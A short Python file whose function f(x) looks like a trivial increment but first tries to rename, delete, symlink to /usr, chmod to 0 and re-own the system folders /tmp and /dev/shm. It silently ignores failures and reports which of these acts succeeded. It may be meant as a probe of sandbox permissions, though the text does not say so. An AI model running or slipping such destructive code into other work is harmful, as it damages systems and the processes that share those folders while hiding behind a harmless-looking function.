# The folders that are to be emptied: renamed, replaced by links, shut.
import os


def f(x):
    done = []
    for folder in ("/tmp", "/dev/shm"):
        for name, call in (
            ("rename", lambda: os.rename(folder, "/tmp/x")),
            ("remove", lambda: os.rmdir(folder)),
            ("replace", lambda: os.symlink("/usr", folder)),
            ("shut", lambda: os.chmod(folder, 0)),
            ("own", lambda: os.chown(folder, os.getuid(), -1)),
        ):
            try:
                call()
                done.append((name, folder))
            except OSError:
                pass
    return x + 1 if not done else done
